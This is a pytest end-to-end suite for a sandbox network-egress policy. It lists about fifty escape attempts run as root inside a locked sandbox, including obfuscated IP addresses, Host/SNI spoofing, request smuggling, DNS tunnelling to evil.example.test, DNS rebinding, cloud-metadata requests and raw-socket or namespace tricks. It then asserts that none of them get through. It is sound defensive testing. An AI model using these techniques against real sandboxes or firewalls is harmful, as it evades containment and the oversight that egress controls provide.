"""Ways out of a locked sandbox, each tried by its root; judged at the stand-in internet, by what arrived there."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.e2e.conftest import clear_policy
from tests.e2e.lab import Person

WEB = "203.0.113.10"


@pytest.fixture(scope="module")
def locked(person: Person) -> Iterator[str]:
    """A sandbox that may reach web.example.test, and in whose way nothing else lies open."""
    clear_policy(person)
    person.ok("create", "locked", "--mode", "deny", "--allow", "web.example.test", timeout=120)
    rebinding = [f"rebind-{where}.example.test" for where in ("loopback", "private", "metadata", "host")]
    opaque = ("web.example.test:22", "web.example.test:8080")
    person.ok("egress", "allow", "--sandbox", "locked", *opaque, *rebinding)
    assert person.inside("locked", TALK).returncode == 0
    yield "locked"
    person.run("destroy", "locked", "--force", timeout=120)


ATTEMPTS = {
    "a literal address": "curl -s -m 3 http://203.0.113.66/",
    "a literal address by TLS without a name": "curl -sk -m 3 https://203.0.113.66/",
    "a literal IPv6 address": "curl -s -m 3 'http://[2001:db8:113::66]/'",
    "a decimal address": "curl -s -m 3 http://3405803842/",
    "a hexadecimal address": "curl -s -m 3 http://0xcb007142/",
    "an octal address": "curl -s -m 3 http://0313.0.0161.0102/",
    "a mapped address": "curl -s -m 3 'http://[::ffff:203.0.113.66]/'",
    "a denied name": "curl -s -m 3 http://evil.example.test/; curl -sk -m 3 https://evil.example.test/",
    "a name in mixed case with a dot": "curl -s -m 3 http://EVIL.Example.Test./",
    "an unknown subdomain": "curl -s -m 3 http://sub.web.example.test/",
    "a spoofed Host at a denied address": "curl -s -m 3 -H 'Host: evil.example.test' http://203.0.113.66/",
    "a spoofed SNI at an allowed name": (
        "curl -sk -m 3 --connect-to evil.example.test:443:web.example.test:443 https://evil.example.test/"
    ),
    "a spoofed Host at an allowed name": "curl -s -m 3 -H 'Host: evil.example.test' http://web.example.test/",
    "two Host headers": r"printf 'GET / HTTP/1.1\r\nHost: web.example.test\r\nHost: evil.example.test\r\n\r\n' | talk web.example.test 80",
    "an absolute form": r"printf 'GET http://evil.example.test/ HTTP/1.1\r\nHost: web.example.test\r\n\r\n' | talk web.example.test 80",
    "an absolute form without a version": r"printf 'GET http://evil.example.test/\r\n' | talk web.example.test 8080",
    "a user part in the authority": (
        r"printf 'GET http://web.example.test@evil.example.test/ HTTP/1.1\r\nHost: web.example.test\r\n\r\n' | talk web.example.test 80"
    ),
    "a question mark in the authority": (
        r"printf 'GET http://evil.example.test?@web.example.test/ HTTP/1.1\r\nHost: web.example.test\r\n\r\n' | talk web.example.test 80"
    ),
    "a leading blank line": r"printf '\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.example.test\r\n\r\n' | talk web.example.test 80",
    "an unknown method": r"printf 'FOO /evil HTTP/1.1\r\nHost: evil.example.test\r\n\r\n' | talk web.example.test 80",
    "a lower-case method": r"printf 'get /evil HTTP/1.1\r\nHost: evil.example.test\r\n\r\n' | talk web.example.test 80",
    "both lengths": (
        r"printf 'POST /ok HTTP/1.1\r\nHost: web.example.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        r"0\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.example.test\r\n\r\n' | talk web.example.test 80"
    ),
    "CONNECT": r"printf 'CONNECT evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\n\r\n' | talk web.example.test 80",
    "HTTP/2 by prior knowledge": "curl -s -m 3 --http2-prior-knowledge http://web.example.test/evil",
    "an upgrade to anything": (
        r"printf 'GET /evil HTTP/1.1\r\nHost: web.example.test\r\nConnection: Upgrade\r\nUpgrade: foo\r\n\r\n"
        r"GET /evil HTTP/1.1\r\nHost: evil.example.test\r\n\r\n' | talk web.example.test 80"
    ),
    "plain text on port 443": r"printf 'GET /evil HTTP/1.1\r\nHost: web.example.test\r\n\r\n' | talk web.example.test 443",
    "opaque bytes on port 80": r"printf '\001\002\003evil' | talk web.example.test 80",
    "another port of an allowed name": "echo evil | talk web.example.test 9999",
    "DNS to a server of one's own": r"printf '\022\064\001\000\000\001\000\000\000\000\000\000\004evil\000\000\001\000\001' | talk -u 203.0.113.53 53",
    "DNS over TCP": r"printf '\000\026\022\064\001\000\000\001\000\000\000\000\000\000\004evil\000\000\001\000\001' | talk 203.0.113.53 53",
    "a DNS tunnel by long labels": "getent hosts $(head -c 30 /dev/urandom | od -An -tx1 | tr -d ' \\n').tunnel.evil.example.test",
    "DNS over TLS": "curl -sk -m 3 https://203.0.113.53:853/",
    "QUIC's port": "echo evil | talk -u web.example.test 443",
    "NTP": "echo evil | talk -u 203.0.113.66 123",
    "ICMP": "ping -c 1 -W 1 203.0.113.66",
    "rebinding to loopback": "curl -s -m 3 http://rebind-loopback.example.test/",
    "rebinding to a private address": "curl -s -m 3 http://rebind-private.example.test/",
    "rebinding to metadata": "curl -s -m 3 http://rebind-metadata.example.test/",
    "rebinding to the host": "curl -s -m 3 http://rebind-host.example.test/",
    "metadata itself": "curl -s -m 3 http://169.254.169.254/",
    "the host's own address": "curl -s -m 3 http://198.51.100.2/; echo evil | talk 198.51.100.2 22",
    "the router on the host's network": "curl -s -m 3 http://198.51.100.1/",
    "the gateway's own port": "echo evil | talk 203.0.113.66 15001; echo evil | talk 127.0.0.1 15001",
    "raw sockets": "sudo perl -e 'socket(S, 2, 3, 1) and exit 0; exit 1' && echo LEAK",
    "packet sockets": "sudo perl -e 'socket(S, 17, 3, 768) and exit 0; exit 1' && echo LEAK",
    "vsock": "sudo perl -e 'socket(S, 40, 1, 0) and exit 0; exit 1' && echo LEAK",
    "new rules": "sudo sh -c 'ip route add default via 198.51.100.1; ip link add x type veth; ip addr add 198.51.100.9/24 dev lo' && echo LEAK",
    "a network namespace of one's own": "sudo unshare -rn curl -s -m 3 http://203.0.113.66/",
}
"""What is tried: a shell script each. `talk [-u] HOST PORT` sends its input, and prints what comes within two seconds."""

TALK = r"""cat > /tmp/talk <<'END'
#!/usr/bin/perl
use IO::Socket::INET; use IO::Select;
my $proto = 'tcp'; if ($ARGV[0] eq '-u') { $proto = 'udp'; shift }
local $/; my $input = <STDIN>;
my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => $proto, Timeout => 2) or die "$!\n";
$s->autoflush(1); print $s $input or die "$!\n";
my $wait = IO::Select->new($s); my $got;
while ($wait->can_read(2)) { last unless sysread($s, $got, 65536); print $got }
END
sudo install -m 755 /tmp/talk /usr/local/bin/talk
"""


@pytest.fixture(scope="module")
def arrivals_of(person: Person, locked: str) -> dict[str, list[dict[str, Any]]]:
    """All attempts made, one after the other in one session: what arrived for each, and what each printed."""
    found: dict[str, list[dict[str, Any]]] = {}
    for name, script in ATTEMPTS.items():
        before = len(person.lab.arrivals())
        done = person.inside(locked, script, timeout=60)
        found[name] = person.lab.arrivals()[before:]
        if "LEAK" in done.stdout:
            found[name].append({"kind": "inside", "printed": done.stdout})
    return found


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nothing_gets_out_by(name: str, arrivals_of: dict[str, list[dict[str, Any]]]) -> None:
    """Nothing but what is allowed arrives, whatever a sandbox's root tries."""
    stray = [seen for seen in arrivals_of[name] if not _is_allowed(seen)]
    assert stray == []


def _is_allowed(seen: dict[str, Any]) -> bool:
    """An allowed name may be looked up and connected to; requests, datagrams and bytes of these attempts never arrive."""
    if seen["kind"] == "dns":
        name = str(seen["name"])
        return name == "web.example.test" or name.startswith("rebind-")
    return (seen["kind"], seen["server"]) == ("connect", WEB)


def test_the_spoofed_address_is_not_believed(person: Person, locked: str) -> None:
    """An allowed name claimed at another address is reached at its own address, which irons looked up itself."""
    before = len(person.lab.arrivals())
    done = person.inside(
        locked, "curl -s -m 5 --resolve web.example.test:80:203.0.113.66 http://web.example.test/claimed"
    )
    assert '"server": "203.0.113.10"' in done.stdout
    arrived = person.lab.arrivals()[before:]
    assert {seen["server"] for seen in arrived if seen["kind"] == "connect"} == {WEB}


def test_a_keep_alive_connection_does_not_change_hosts(person: Person, locked: str) -> None:
    """The second request on a connection is judged like the first."""
    requests = r"printf 'GET /one HTTP/1.1\r\nHost: web.example.test\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.example.test\r\n\r\n'"
    done = person.inside(locked, f"{requests} | talk web.example.test 80")
    assert "200 OK" in done.stdout
    assert "403 Forbidden" in done.stdout
    assert not person.lab.arrived(kind="http", line="GET /two HTTP/1.1")


def test_a_sibling_is_out_of_reach(person: Person, locked: str) -> None:
    """One sandbox can't reach another, by its address or by the host's SSH port for it."""
    person.ok("create", "sibling", "--mode", "deny", timeout=120)
    try:
        port = json.loads(person.ok("status", "sibling", "-o", "json"))["metadata"]["ssh_port"]
        own = person.inside(locked, "echo hi | talk 100.64.0.2 22; hostname")
        assert own.stdout.count("SSH-2.0") == 1  # every sandbox has that address, and it is its own
        others = person.inside(
            locked, f"for a in 127.0.0.1 198.51.100.2; do echo hi | talk $a {port}; done; true"
        )
        assert "SSH-2.0" not in others.stdout
    finally:
        person.run("destroy", "sibling", "--force", timeout=120)


def test_every_refusal_is_in_the_log(person: Person, locked: str, arrivals_of: dict[str, Any]) -> None:
    """What was refused was written down, with a reason."""
    del arrivals_of
    refused = [event for event in person.events(locked) if event["verdict"] == "blocked"]
    hosts = {event["host"] for event in refused}
    assert {"evil.example.test", "203.0.113.66", "169.254.169.254", "rebind-private.example.test"} <= hosts
    assert all(event["reason"] for event in refused)
